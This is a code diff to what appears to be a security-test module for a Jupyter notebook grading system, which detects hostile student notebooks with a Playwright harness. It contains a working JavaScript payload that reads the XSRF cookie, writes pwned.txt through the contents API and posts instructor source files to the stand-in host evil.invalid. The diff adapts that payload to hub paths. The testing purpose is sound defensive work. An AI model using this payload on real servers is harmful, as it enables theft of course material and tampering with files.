@@ -5,7 +5,8 @@ frame of another origin (a ``data:`` URL), posts ``PWNED-<id>`` to the top page,
 test listens for it. A payload that loads or sends anything goes to
 ``http://evil.invalid/…``, which the browser test intercepts and counts (the name never resolves).
 The API payload, from the instructor's Formgrader, would create ``pwned.txt`` through the Jupyter
-server's contents API and send ``source/`` away. Each payload says where the student puts it:
+server's contents API (at the server's base URL, a hub's ``/user/<name>`` too) and send ``source/``
+away. Each payload says where the student puts it:
 
 - ``markdown``: a Markdown cell the student adds (raw HTML, or a Markdown link);
 - ``attachment``: a Markdown cell whose image is an attachment crafted to break out of its tag;
@@ -19,7 +20,10 @@ server's contents API and send ``source/`` away. Each payload says where the stu
 from __future__ import annotations
 
 import base64
+import hashlib
+import re
 from dataclasses import dataclass
+from pathlib import Path
 
 import nbformat.v4 as nbf
 
@@ -32,10 +36,11 @@ def mark(pid: str) -> str:
 
 EVIL = "http://evil.invalid"
 API = (
-    "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
-    "fetch(location.origin+'/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':decodeURIComponent(x),"
+    "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'',"
+    "b=location.origin+location.pathname.split('/formgrader/')[0];"  # the server's base URL (a hub's /user/<name>)
+    "fetch(b+'/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':decodeURIComponent(x),"
     "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
-    "fetch(location.origin+'/api/contents/source/whole-transformer').then(r=>r.text())"
+    "fetch(b+'/api/contents/source/whole-transformer').then(r=>r.text())"
     ".then(t=>fetch('" + EVIL + "/leak',{method:'POST',mode:'no-cors',body:t}))"
 )
 
@@ -148,3 +153,45 @@ def hostile(nb):
             set_answer(nb, "answer_q", str(p.content))
     nb.cells.extend(payload_cells())
     return nb
+
+
+#: in every frame of a watched page: each marker posted to it, and each change of its title, reported
+REPORT = "addEventListener('message',e=>{if(String(e.data).startsWith('PWNED'))__wt_report(String(e.data))});" + (
+    "new MutationObserver(()=>{if(document.title.includes('PWNED'))__wt_report(document.title)})"
+    ".observe(document,{subtree:true,childList:true,characterData:true});"
+)
+
+
+def watch_pages(context) -> set[str]:
+    """Watch every page of a Playwright browser context: what its pages report (``REPORT``) and each request to
+    evil.invalid go into the set returned (``markers`` reads it)."""
+    seen: set[str] = set()
+
+    def evil(route):
+        seen.add(f"request {route.request.url}")
+        route.fulfill(status=200, content_type="text/plain", body="")
+
+    context.expose_function("__wt_report", lambda text: seen.add(text))
+    context.add_init_script(REPORT)
+    context.route(re.compile(r"^https?://evil\.invalid/"), evil)
+    return seen
+
+
+def markers(seen: set[str]) -> set[str]:
+    """Each payload id whose marker was set, and each request that reached evil.invalid."""
+    found = set()
+    for s in seen:
+        if s.startswith("request "):
+            found.add(s)
+        else:  # a title a marker set (a frame the policy blocked is titled with its URL, the payload's text)
+            found |= set(re.findall(r"(?<!/)\|PWNED-([\w-]+)", "|" + s if s.startswith("PWNED") else s))
+    return found
+
+
+def files_digest(folder: Path) -> str:
+    """One digest of every file under ``folder`` (names and bytes): what a payload must leave as it was."""
+    h = hashlib.sha256()
+    for p in sorted(folder.rglob("*")):
+        if p.is_file():
+            h.update(str(p).encode() + p.read_bytes())
+    return h.hexdigest()
